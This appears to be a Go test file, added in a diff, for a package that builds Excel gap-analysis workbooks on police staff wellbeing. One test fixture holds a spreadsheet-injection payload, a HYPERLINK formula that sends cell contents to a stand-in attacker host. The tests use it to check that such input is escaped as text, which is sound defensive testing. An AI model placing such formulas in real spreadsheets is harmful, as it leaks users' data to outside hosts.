@@ -1,0 +1,243 @@
+package gapanalysis
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"io"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"github.com/bluelight-wellbeing/toolkit/reports/figure"
+)
+
+const malicious = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+
+func sample() Workbook {
+	w := Workbook{
+		Organisation: "Heddlu Gwent", Cycle: "2025/26", Edition: "Blue Light Wellbeing Framework, third edition (2024)",
+		Produced:        time.Date(2026, 3, 14, 0, 0, 0, 0, time.UTC),
+		Method:          "Area levels are means of standard levels.\n\nMedians are over validated assessments.",
+		SuppressionRule: "Figures from fewer than 5 organisations are suppressed.",
+	}
+	for i, t := range []string{"Leadership", "Absence Management", "Creating the Environment", "Mental Health", "Personal Resilience", "Protecting the Workforce", "Occupational Health"} {
+		a := Area{Title: t, Value: figure.Of(1 + 0.4*float64(i)), NationalMedian: figure.Of(2), PeerMedian: figure.Of(2.2)}
+		if t == "Occupational Health" {
+			a.PeerMedian = figure.SuppressedValue("fewer than 5")
+		}
+		w.Areas = append(w.Areas, a)
+		for j := range 8 {
+			w.Gaps = append(w.Gaps, Gap{StandardID: fmt.Sprintf("S%d-%02d", i+1, j+1), Area: t, Statement: "Statement " + t,
+				Current: figure.Of(float64(j % 5)), Target: figure.Of(3), NationalMedian: figure.Of(2), PeerMedian: figure.Of(2.5),
+				Actions: "Do the thing", Owner: "Wellbeing lead", Status: "planned", Due: time.Date(2026, 9, 30, 0, 0, 0, 0, time.UTC)})
+		}
+	}
+	w.Gaps = append(w.Gaps, Gap{StandardID: "OH-09", Area: "Occupational Health", Statement: "-starts with minus",
+		Current: figure.Of(0), Target: figure.Of(4), NationalMedian: figure.Of(2), PeerMedian: figure.SuppressedValue("fewer than 5"),
+		Actions: malicious, Owner: "+44 owner", Status: "in progress"})
+	w.Risks = []Risk{
+		{Role: "Online child abuse investigation (POLIT)", Headcount: figure.Of(14), Band: "very high", NextReview: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), NextScreening: time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC), Overdue: true},
+		{Role: "@Family liaison officers", Headcount: figure.SuppressedValue("fewer than 5 people"), Band: "high"},
+	}
+	w.Provision = []Indicator{
+		{Label: "OK9 dogs per 1,000 staff", Unit: "per 1,000", Value: figure.Of(1.2), PeerMedian: figure.Of(0.8), NationalMedian: figure.Of(0.7), Band: figure.BandAbove80},
+		{Label: "Peer supporters per 1,000 staff", Unit: "per 1,000", Value: figure.MissingValue("workforce figure missing"), PeerMedian: figure.Of(14), NationalMedian: figure.Of(12)},
+	}
+	w.Benchmarks = []Benchmark{
+		{Metric: "Leadership mean level", Group: "National", N: 41, Median: figure.Of(2), Q1: figure.Of(1.5), Q3: figure.Of(2.75), P20: figure.Of(1.4), P80: figure.Of(2.9)},
+		{Metric: "Occupational Health mean level", Group: "Peer", N: 4, Median: figure.SuppressedValue("n<5"), Q1: figure.SuppressedValue(""), Q3: figure.SuppressedValue(""), P20: figure.SuppressedValue(""), P80: figure.SuppressedValue("")},
+	}
+	return w
+}
+
+func open(t *testing.T, w Workbook) (*excelize.File, []byte) {
+	t.Helper()
+	b, err := Build(w)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f, b
+}
+
+func get(t *testing.T, f *excelize.File, sheet, c string) string {
+	t.Helper()
+	v, err := f.GetCellValue(sheet, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v
+}
+
+func TestWorkbookReadsBack(t *testing.T) {
+	w := sample()
+	f, raw := open(t, w)
+	if got, want := f.GetSheetList(), []string{SheetSummary, SheetGaps, SheetRisks, SheetProvision, SheetBenchmarks, SheetNotes}; fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("sheets %v, want %v", got, want)
+	}
+	// Summary: figures, suppressed as a word, chart data blank.
+	for c, want := range map[string]string{"A1": "Gap analysis: Heddlu Gwent", "A8": "Leadership", "B8": "1", "C9": "2", "D14": "suppressed", "J14": "", "J8": "2.2"} {
+		if got := get(t, f, SheetSummary, c); got != want {
+			t.Errorf("Summary!%s = %q, want %q", c, got, want)
+		}
+	}
+	// Gaps: priority worked out with the rule; row 2 is current 0, target 3,
+	// peer 2.5 -> gap 3, score 3 x 3.5 = 10.5, High.
+	for c, want := range map[string]string{"A2": "S1-01", "H2": "3", "I2": "10.5", "J2": "High", "J5": "Low", "N2": "planned", "G58": "suppressed", "J58": "High"} {
+		if got := get(t, f, SheetGaps, c); got != want {
+			t.Errorf("Gaps!%s = %q, want %q", c, got, want)
+		}
+	}
+	if v := get(t, f, SheetGaps, "M2"); v == "" {
+		t.Error("due date missing")
+	}
+	// Escaping: user text that looks like a formula stays text.
+	for _, c := range []struct{ sheet, cell, want string }{
+		{SheetGaps, "K58", "'" + malicious}, {SheetGaps, "L58", "'+44 owner"}, {SheetGaps, "C58", "'-starts with minus"},
+		{SheetRisks, "A3", "'@Family liaison officers"},
+	} {
+		if got := get(t, f, c.sheet, c.cell); got != c.want {
+			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
+		}
+		if formula, _ := f.GetCellFormula(c.sheet, c.cell); formula != "" {
+			t.Errorf("%s!%s became a formula: %q", c.sheet, c.cell, formula)
+		}
+	}
+	// Risk register, provision, benchmarks.
+	for _, c := range []struct{ sheet, cell, want string }{
+		{SheetRisks, "B3", "suppressed"}, {SheetRisks, "F2", "yes"}, {SheetRisks, "F3", "no"}, {SheetRisks, "C2", "very high"},
+		{SheetProvision, "C3", "missing"}, {SheetProvision, "G3", "workforce figure missing"}, {SheetProvision, "F2", "above 80th percentile"},
+		{SheetBenchmarks, "C2", "41"}, {SheetBenchmarks, "E2", "1.5"}, {SheetBenchmarks, "D3", "suppressed"}, {SheetBenchmarks, "H3", "suppressed"},
+	} {
+		if got := get(t, f, c.sheet, c.cell); got != c.want {
+			t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, got, c.want)
+		}
+	}
+	// Notes carry the priority rule, suppression rule and method.
+	notes, _ := f.GetRows(SheetNotes)
+	var all strings.Builder
+	for _, r := range notes {
+		all.WriteString(strings.Join(r, " ") + "\n")
+	}
+	for _, want := range []string{PriorityRule, "Figures from fewer than 5 organisations are suppressed.", "Medians are over validated assessments."} {
+		if !strings.Contains(all.String(), want) {
+			t.Errorf("Notes lack %q", want)
+		}
+	}
+	// Status drop-down.
+	dvs, err := f.GetDataValidations(SheetGaps)
+	if err != nil || len(dvs) != 1 {
+		t.Fatalf("data validations %v, %v", dvs, err)
+	}
+	if dvs[0].Type != "list" || dvs[0].Sqref != "N2:N58" || !strings.Contains(dvs[0].Formula1, "in progress") {
+		t.Errorf("status validation %+v", dvs[0])
+	}
+	// Conditional formats on gap and priority, and on overdue.
+	cf, _ := f.GetConditionalFormats(SheetGaps)
+	if len(cf["H2:H58"]) != 1 || cf["H2:H58"][0].Type != "data_bar" {
+		t.Errorf("gap format %+v", cf["H2:H58"])
+	}
+	if len(cf["J2:J58"]) != 3 {
+		t.Errorf("priority formats %+v", cf["J2:J58"])
+	}
+	if cf, _ := f.GetConditionalFormats(SheetRisks); len(cf["F2:F3"]) != 1 {
+		t.Errorf("overdue format %+v", cf)
+	}
+	// Frozen header on every table sheet.
+	for _, s := range []string{SheetGaps, SheetRisks, SheetProvision, SheetBenchmarks} {
+		p, err := f.GetPanes(s)
+		if err != nil || !p.Freeze || p.YSplit != 1 {
+			t.Errorf("%s panes %+v %v", s, p, err)
+		}
+	}
+	// Autofilter and chart: read the package parts.
+	parts := unzip(t, raw)
+	if !strings.Contains(parts["xl/worksheets/sheet2.xml"], `<autoFilter ref="$A$1:$N$58"`) {
+		t.Error("Gaps has no autofilter over the table")
+	}
+	chart := parts["xl/charts/chart1.xml"]
+	if !strings.Contains(chart, "<barChart>") || !strings.Contains(chart, "$H$8:$H$14") || !strings.Contains(chart, `<dispBlanksAs val="gap"`) {
+		t.Errorf("chart missing or wrong:\n%.600s", chart)
+	}
+	if !strings.Contains(parts["xl/worksheets/_rels/sheet1.xml.rels"], "drawing") {
+		t.Error("chart not attached to Summary")
+	}
+}
+
+func unzip(t *testing.T, b []byte) map[string]string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string]string{}
+	for _, zf := range z.File {
+		r, err := zf.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		data, _ := io.ReadAll(r)
+		r.Close()
+		out[zf.Name] = string(data)
+	}
+	return out
+}
+
+func TestEscape(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"plain": "plain", "": "", "a=b": "a=b",
+	} {
+		if got := Escape(in); got != want {
+			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestPriority(t *testing.T) {
+	cases := []struct {
+		name                  string
+		current, target, peer figure.Value
+		gap, score            float64
+		band                  string
+	}{
+		{"far from target and behind peers", figure.Of(1), figure.Of(3), figure.Of(2.5), 2, 5, PriorityHigh},
+		{"gap 1, two levels behind peers", figure.Of(1), figure.Of(2), figure.Of(3), 1, 3, PriorityMedium},
+		{"gap 2, level with peers", figure.Of(2), figure.Of(4), figure.Of(2), 2, 2, PriorityMedium},
+		{"gap 1, ahead of peers", figure.Of(3), figure.Of(4), figure.Of(2), 1, 1, PriorityLow},
+		{"target met", figure.Of(3), figure.Of(3), figure.Of(4), 0, 0, PriorityLow},
+		{"above target", figure.Of(4), figure.Of(3), figure.Of(4), 0, 0, PriorityLow},
+		{"peer median suppressed", figure.Of(0), figure.Of(4), figure.SuppressedValue(""), 4, 4, PriorityHigh},
+		{"no current level", figure.MissingValue(""), figure.Of(4), figure.Of(2), 0, 0, PriorityNotRated},
+		{"no target", figure.Of(1), figure.MissingValue(""), figure.Of(2), 0, 0, PriorityNotRated},
+	}
+	for _, c := range cases {
+		gap, score, band, _ := Priority(c.current, c.target, c.peer)
+		if gap != c.gap || score != c.score || band != c.band {
+			t.Errorf("%s: got gap %v score %v %s, want %v %v %s", c.name, gap, score, band, c.gap, c.score, c.band)
+		}
+	}
+}
+
+func TestEmptyWorkbook(t *testing.T) {
+	f, _ := open(t, Workbook{Organisation: "Empty", Produced: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
+	if len(f.GetSheetList()) != 6 {
+		t.Error(f.GetSheetList())
+	}
+}
+
+func BenchmarkBuild(b *testing.B) {
+	w := sample()
+	for b.Loop() {
+		if _, err := Build(w); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
